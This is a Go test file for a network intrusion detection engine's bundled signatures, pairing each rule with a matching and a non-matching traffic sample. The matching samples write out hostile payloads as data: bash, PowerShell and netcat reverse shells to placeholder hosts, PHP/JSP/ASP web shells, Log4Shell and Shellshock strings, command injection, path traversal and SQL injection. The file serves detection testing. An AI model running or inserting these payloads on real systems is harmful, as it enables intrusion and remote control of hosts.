package signatures

import (
	"maps"
	"net/netip"
	"strings"
	"testing"

	"sluice/dataplane/decode"
	"sluice/dataplane/flow"
	"sluice/dataplane/protocol"
)

type play func(r *rig)

func web(pairs ...string) play { return func(r *rig) { r.http(pairs...) } }

// inbound is a request from outside to an inside server.
func inbound(pairs ...string) play {
	return func(r *rig) {
		f := r.flow(decode.ProtoTCP, 40000, 80)
		f.Client, f.Server = outside, inside
		r.httpOn(f, pairs...)
	}
}

func ua(v string) play { return web("http.method=GET", "http.uri=/", "http.user_agent="+v) }

func query(names ...string) play {
	return func(r *rig) {
		for _, n := range names {
			f := r.flow(decode.ProtoUDP, 5353, 53)
			r.progress(f, r.tx(r.speakUDP(f, 'D'), "dns.query="+n), protocol.ToServer, atDone)
		}
	}
}

func hello(pairs ...string) play { return helloOn(443, pairs...) }

func helloOn(port uint16, pairs ...string) play {
	return func(r *rig) {
		f := r.flow(decode.ProtoTCP, 40000, port)
		tx := r.tx(r.speak(f, 'T'), pairs...)
		r.progress(f, tx, protocol.ToServer, atDone)
		r.progress(f, tx, protocol.ToClient, atDone)
		r.m.Packet(r.packet(decode.ProtoTCP, inside, outside, 40000, port, nil), f, protocol.ToServer)
		r.take()
	}
}

func send(port uint16, pieces ...string) play {
	return func(r *rig) {
		s := r.open(r.flow(decode.ProtoTCP, 40000, port), protocol.ToServer)
		for _, p := range pieces {
			s.data([]byte(p))
		}
	}
}

func receive(port uint16, pieces ...string) play {
	return func(r *rig) {
		s := r.open(r.flow(decode.ProtoTCP, 40000, port), protocol.ToClient)
		for _, p := range pieces {
			s.data([]byte(p))
		}
	}
}

func datagram(port uint16, text string) play {
	return func(r *rig) {
		r.m.Packet(r.packet(decode.ProtoUDP, inside, outside, 40000, port, []byte(text)), r.flow(decode.ProtoUDP, 40000, port), protocol.ToServer)
		r.take()
	}
}

func flags(n int, f uint8, src, dst decode.Addr, port uint16) play {
	return func(r *rig) {
		for i := range n {
			p := r.packet(decode.ProtoTCP, src, dst, uint16(1000+i), port, nil)
			p.TCPFlags = f
			fl := &flow.Flow{Client: src, Server: dst, ClientPort: p.SrcPort, ServerPort: port, Proto: decode.ProtoTCP, IPVersion: 4, Pkts: [2]uint64{1, 0}, Start: r.now, Last: r.now}
			r.m.Packet(p, fl, protocol.ToServer)
			r.take()
		}
	}
}

func ping(n, size int) play {
	return func(r *rig) {
		for range n {
			p := r.packet(decode.ProtoICMP, inside, outside, 0, 0, make([]byte, size))
			p.ICMPType, p.Flags = 8, 0
			r.m.Packet(p, r.flow(decode.ProtoICMP, 8, 0), protocol.ToServer)
			r.take()
		}
	}
}

// decoded is a packet of which decoding tells.
func decoded(event string) play {
	return func(r *rig) {
		p := r.packet(decode.ProtoUDP, outside, inside, 40000, 53, nil)
		e, ok := decode.EventByName(event)
		if !ok {
			r.t.Fatalf("no event %s", event)
		}
		p.EventList[0], p.NEvents = e, 1
		r.m.Packet(p, nil, protocol.ToServer)
		r.take()
	}
}

// connection is a packet of which stream tracking tells.
func connection(event string) play {
	return func(r *rig) {
		e, ok := decode.EventByName(event)
		if !ok {
			r.t.Fatalf("no event %s", event)
		}
		r.m.StreamEvents([]decode.Event{e})
		r.m.Packet(r.packet(decode.ProtoTCP, outside, inside, 40000, 80, nil), r.flow(decode.ProtoTCP, 40000, 80), protocol.ToServer)
		r.take()
	}
}

// raised is a transaction of which its parser tells.
func raised(first byte, event string) play {
	return func(r *rig) {
		f := r.flow(decode.ProtoTCP, 40000, 80)
		tx := r.tx(r.speak(f, first), "http.method=GET")
		tx.Events = append(tx.Events, event)
		r.progress(f, tx, protocol.ToServer, atDone)
	}
}

// speaks is a client of one protocol and a server of another.
func speaks(client, server byte) play {
	return func(r *rig) {
		f := r.flow(decode.ProtoTCP, 40000, 80)
		var limits protocol.Limits
		env := &protocol.Env{Limits: &limits}
		f.App.Data(r.reg, env, protocol.ToServer, []byte{client})
		f.App.Data(r.reg, env, protocol.ToClient, []byte{server})
		r.m.Packet(r.packet(decode.ProtoTCP, outside, inside, 80, 40000, nil), f, protocol.ToClient)
		r.take()
	}
}

func ssh(port uint16, proto string) play {
	return func(r *rig) {
		f := r.flow(decode.ProtoTCP, 40000, port)
		r.progress(f, r.tx(r.speak(f, 'X'), "ssh.proto="+proto), protocol.ToServer, atDone)
	}
}

func webOn(port uint16, pairs ...string) play {
	return func(r *rig) { r.httpOn(r.flow(decode.ProtoTCP, 40000, port), pairs...) }
}

var loop = decode.AddrFrom(netip.MustParseAddr("127.0.0.1"))

func TestBundledRules(t *testing.T) {
	hex := strings.Repeat("0123456789abcdef", 4)[:60]
	cases := map[uint32][2]play{
		9000001: {ua("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), ua("Mozilla/5.0 (X11; Linux) Nmapper")},
		9000002: {ua("sqlmap/1.7#stable"), ua("Mozilla/5.0 about sqlmap/1.7")},
		9000003: {ua("Mozilla/5.00 (Nikto/2.1.6)"), ua("NiktoCat")},
		9000004: {ua("masscan/1.3"), ua("Mozilla/5.0 masscan")},
		9000005: {ua("gobuster/3.6"), ua("ghostbuster/3.6")},
		9000006: {flags(1, decode.TCPSyn|decode.TCPFin, outside, inside, 80), flags(1, decode.TCPSyn, outside, inside, 80)},
		9000007: {flags(1, 0, outside, inside, 80), flags(1, decode.TCPAck, outside, inside, 80)},
		9000008: {flags(1, decode.TCPFin|decode.TCPPsh|decode.TCPUrg, outside, inside, 80), flags(1, decode.TCPFin|decode.TCPAck, outside, inside, 80)},
		9000009: {flags(500, decode.TCPSyn, outside, inside, 80), flags(100, decode.TCPSyn, outside, inside, 80)},
		9000010: {flags(20, decode.TCPSyn, outside, inside, 22), flags(20, decode.TCPSyn, outside, inside, 23)},
		9000011: {ua("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"), ua("Nuclei")},
		9000012: {ua("WPScan v3.8"), ua("Mozilla WPScan v3")},
		9000013: {inbound("http.uri=/app/.env"), inbound("http.uri=/.environment")},
		9000014: {inbound("http.uri=/.git/config"), inbound("http.uri=/.git/README")},

		9000101: {web("http.header=Authorization: Basic Ym9iOnB3\r\n"), web("http.header=Authorization: Bearer abc\r\n")},
		9000102: {send(21, "PASS secret\r\n"), send(21, "PASS anonymous@\r\n")},
		9000103: {send(110, "PASS secret\r\n"), send(110, "USER bob\r\n")},
		9000104: {send(143, "a1 LOGIN bob secret\r\n"), send(143, "a1 LOGOUT\r\n")},
		9000105: {receive(23, "Debian GNU/Linux\r\nhost login: "), receive(23, "Welcome\r\n")},
		9000106: {web("http.method=POST", "http.uri=/in", "request_body=user=bob&password=hunter2"), web("http.method=POST", "http.uri=/in", "request_body=compass=north")},
		9000107: {send(389, "\x30\x1c\x02\x01\x01\x60\x17\x02\x01\x03\x04\x08cn=admin\x80\x08password"), send(389, "\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00")},
		9000108: {datagram(161, "\x30\x26\x02\x01\x00\x04\x06public\xa0\x19"), datagram(161, "\x30\x26\x02\x01\x00\x04\x06s3cret\xa0\x19")},
		9000109: {send(587, "AUTH PLAIN AGJvYgBwdw==\r\n"), send(587, "AUTH GSSAPI\r\n")},
		9000110: {web("http.method=GET", "response_body=-----BEGIN RSA PRIVATE KEY-----\nMII"), web("http.method=GET", "response_body=-----BEGIN PUBLIC KEY-----\nMII")},

		9000201: {receive(8080, "bash -i >& /dev", "/tcp/203.0.113.9/4444 0>&1"), receive(8080, "bash -i")},
		9000202: {send(4444, "Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation."), send(4444, "Microsoft Windows [Version 10]")},
		9000203: {send(4444, "uid=0(root) gid=0(root) groups=0(root)\n"), send(4444, "uid=1000(bob) gid=1000(bob)\n")},
		9000204: {receive(4444, "python3 -c 'import pty;", "pty.spawn(\"/bin/bash\")'"), receive(4444, "import pty")},
		9000205: {receive(80, "$c = New-Object System.Net.Sockets.TCPClient('1.2.3.4',443);$s = $c.GetStream();"), receive(80, "New-Object System.Net.WebClient")},
		9000206: {receive(4444, "MZ....metsrv.x64.dll..ReflectiveLoader"), receive(4444, "MZ....ReflectiveLoader")},
		9000207: {inbound("http.uri=/ping?h=1;nc%20-e%20/bin/sh%201.2.3.4"), inbound("http.uri=/sync?nc%20list")},
		9000208: {send(4444, "/bin/sh: 0: can't access tty; job control turned off\n$ "), send(4444, "job control turned on")},
		9000209: {send(4444, `PS C:\Users\bob> `), send(4444, `PS C:\Users\bob> and a lot of further text`)},
		9000210: {receive(4444, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 1"), receive(4444, "mkfifo /tmp/f")},

		9000301: {inbound("http.method=POST", "request_body=Content-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET[1]);"),
			inbound("http.method=POST", "request_body=Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n<?php is a tag")},
		9000302: {inbound("http.method=POST", "request_body=a=eval(base64_decode($_POST[z]))"), inbound("http.method=POST", "request_body=a=medieval(times)")},
		9000303: {inbound("http.method=POST", "request_body=a=1&z0=QGluaV9zZXQoImRpc3BsYXkiKQ"), inbound("http.method=POST", "request_body=z0=other")},
		9000304: {inbound("http.method=POST", "request_body=<% Runtime.getRuntime().exec(request.getParameter(\"c\")) %>"), inbound("http.method=POST", "request_body=Runtime.version()")},
		9000305: {inbound("http.method=POST", "request_body=<%@ Page %><% eval(Request.Item[\"x\"],\"unsafe\"); %>"), inbound("http.method=POST", "request_body=Request.Item[1]")},
		9000306: {inbound("http.uri=/uploads/a.php?cmd=whoami"), inbound("http.uri=/uploads/list.php?c=3")},
		9000307: {inbound("http.uri=/x?f=../../etc/passwd"), inbound("http.uri=/docs/etc/passwd")},
		9000308: {inbound("http.uri=/?q=${jndi:ldap://x/a}"), inbound("http.uri=/?q=${user}")},
		9000309: {inbound("http.header=X-Api: ${jndi:ldap://x/a}\r\n"), inbound("http.header=X-Api: jndi\r\n")},
		9000310: {inbound("http.header=User-Agent: () { :;}; /bin/id\r\n"), inbound("http.header=User-Agent: (){}\r\n")},
		9000311: {inbound("http.uri=/i?id=1 union all select 1,2"), inbound("http.uri=/trade-union/select-committee")},
		9000312: {inbound("http.method=GET", "response_body=uid=33(www-data) gid=33(www-data)"), inbound("http.method=GET", "response_body=uid=33")},

		9000401: {send(3333, `{"id":1,"method":"mining.subscribe","params":[]}`), send(3333, `{"method":"subscribe"}`)},
		9000402: {send(3333, `{"id":2,"method":"mining.authorize","params":["a","b"]}`), send(3333, `mining.authorized`)},
		9000403: {send(3333, `{"method":"login","params":{"login":"4A","agent":"XMRig/6"}}`), send(3333, `{"method":"logout"}`)},
		9000404: {query("xmr-eu1.nanopool.org"), query("nanopool.org.example.com")},
		9000405: {ua("XMRig/6.20"), ua("about XMRig/6.20")},

		9000501: {query("expyuzz4wqqyqhjn.onion"), query("onion.example.com")},
		9000502: {query("www.torproject.org"), query("mytorproject.org")},
		9000503: {hello("tls.sni=bridges.torproject.org"), hello("tls.sni=torproject.org.example.com")},
		9000504: {query("expyuzz4wqqyqhjn.onion.ly"), query("red.onion.recipes")},
		9000505: {hello("tls.cert_subject=CN=www.abcdefgh23.net", "tls.cert_issuer=CN=www.qwertyzxcv.com"), hello("tls.cert_subject=CN=www.example.net", "tls.cert_issuer=CN=R3")},

		9000601: {hello("tls.cert_subject=C=AU, ST=Some-State, O=Internet Widgits Pty Ltd"), hello("tls.cert_subject=O=Widgets")},
		9000602: {hello("tls.cert_serial=08:8B:B0:0E:E"), hello("tls.cert_serial=8B:B0:0E:E1")},
		9000603: {hello("tls.sni=203.0.113.9"), hello("tls.sni=a.203.example")},
		9000604: {hello("tls.sni=evil.duckdns.org"), hello("tls.sni=evilduckdns.org")},
		9000605: {helloOn(4444, "tls.sni=x.example"), helloOn(443, "tls.sni=x.example")},
		9000606: {hello("tls.cert_subject=CN=localhost", "tls.cert_issuer=CN=localhost"), hello("tls.cert_subject=CN=localhost", "tls.cert_issuer=CN=Real CA")},

		9000701: {ua("rclone/v1.65"), ua("Mozilla rclone/v1")},
		9000702: {hello("tls.sni=g.api.mega.co.nz"), hello("tls.sni=omega.nz")},
		9000703: {hello("tls.sni=store1.gofile.io"), hello("tls.sni=profile.io")},
		9000704: {hello("tls.sni=ab12.ngrok-free.app"), hello("tls.sni=ngrok.example.app")},
		9000705: {hello("tls.sni=api.telegram.org"), hello("tls.sni=web.telegram.org")},
		9000706: {web("http.method=POST", "http.host=pastebin.com"), web("http.method=GET", "http.host=pastebin.com")},
		9000707: {web("http.uri=/api/webhooks/1/abc", "http.host=discord.com"), web("http.uri=/api/webhooks/1", "http.host=example.com")},
		9000708: {web("http.method=PUT", "http.user_agent=curl/8.5"), web("http.method=GET", "http.user_agent=curl/8.5")},
		9000709: {web("http.method=POST", "http.user_agent=python-requests/2", "request_body=PK\x03\x04rest"), web("http.method=POST", "http.user_agent=python-requests/2", "request_body=name=PK\x03\x04")},
		9000710: {ping(20, 1000), ping(20, 64)},

		9000901: {decoded("ipv4.frag_overlap"), decoded("ipv4.frag_ignored")},
		9000902: {decoded("ipv6.frag_overlap"), decoded("ipv4.frag_overlap")},
		9000903: {decoded("ipv6.rh_type_0"), decoded("ipv6.exthdr_dupl_rh")},
		9000904: {decoded("ipv4.frag_pkt_too_large"), decoded("ipv4.trunc_pkt")},
		9000905: {decoded("too_many_layers"), decoded("vlan.too_many_layers")},
		9000906: {flags(1, decode.TCPSyn, inside, inside, 80), flags(1, decode.TCPSyn, loop, loop, 80)},
		9000907: {connection("stream.reassembly_overlap_different_data"), connection("stream.pkt_retransmission")},
		9000908: {connection("stream.suspected_rst_inject"), connection("stream.rst_invalid_ack")},
		9000909: {connection("stream.3whs_ack_data_inject"), connection("stream.3whs_wrong_seq_wrong_ack")},
		9000910: {connection("stream.3whs_synack_flood"), connection("stream.3whs_synack_resend_with_diff_seq")},
		9000911: {raised('H', "invalid_transfer_encoding_value_in_request"), raised('H', "request_line_invalid")},
		9000912: {raised('H', "host_header_ambiguous"), raised('H', "missing_host_header")},
		9000913: {raised('H', "compression_bomb"), raised('H', "gzip_decompression_failed")},
		9000914: {raised('T', "overflow_heartbeat_message"), raised('T', "heartbeat_message")},
		9000915: {raised('T', "multiple_sni_extensions"), raised('T', "invalid_record_length")},
		9000916: {speaks('H', 'X'), speaks('H', 'H')},
		9000917: {ssh(443, "2.0"), ssh(22, "2.0")},
		9000918: {webOn(443, "http.method=GET", "http.uri=/"), webOn(443, "http.method=CONNECT", "http.uri=x:443")},

		9000801: {query(strings.Repeat(strings.Repeat("a", 50)+".", 3) + "example.com"), query("www.example.com")},
		9000802: {query(hex+".t.example", hex+".t.example", hex+".t.example", hex+".t.example", hex+".t.example"), query("z" + hex + ".t.example")},
		9000803: {query("dnscat.0a1b2c.example"), query("mydnscat.example")},
		9000804: {func(r *rig) {
			for range 100 {
				query(strings.Repeat("b", 62) + ".example")(r)
			}
		}, query(strings.Repeat("b", 62) + ".example")},
		9000805: {query("c23.oast.pro"), query("toast.pro")},
		9000806: {send(53, "SSH-2.0-OpenSSH_9"), send(22, "SSH-2.0-OpenSSH_9")},
		9000807: {query("a.b.c.d.e.f.duckdns.org"), query("home.duckdns.org")},
	}
	maps.Copy(cases, icsCases())
	rs, rep := Load(nil, Config{Registry: fakeRegistry(t), Fields: fakeFields()})
	for _, e := range rep.Errors {
		t.Error(e.Error())
	}
	if rep.Loaded < 40 {
		t.Errorf("only %d bundled rules", rep.Loaded)
	}
	for _, rule := range rs.Rules {
		c, ok := cases[rule.SID]
		if !ok {
			t.Errorf("sid %d has no cases", rule.SID)
			continue
		}
		if rule.Category == "" {
			t.Errorf("sid %d: class %q is unknown", rule.SID, rule.Classtype)
		}
		// Each alone: state of one case must not leak into the next.
		for i, p := range c {
			r := newRig(t, rule.Text+"\n")
			p(r)
			if i == 0 && len(r.got) == 0 {
				t.Errorf("sid %d misses its true positive", rule.SID)
			}
			if i == 1 && len(r.got) != 0 {
				t.Errorf("sid %d matches its false positive", rule.SID)
			}
		}
	}
}
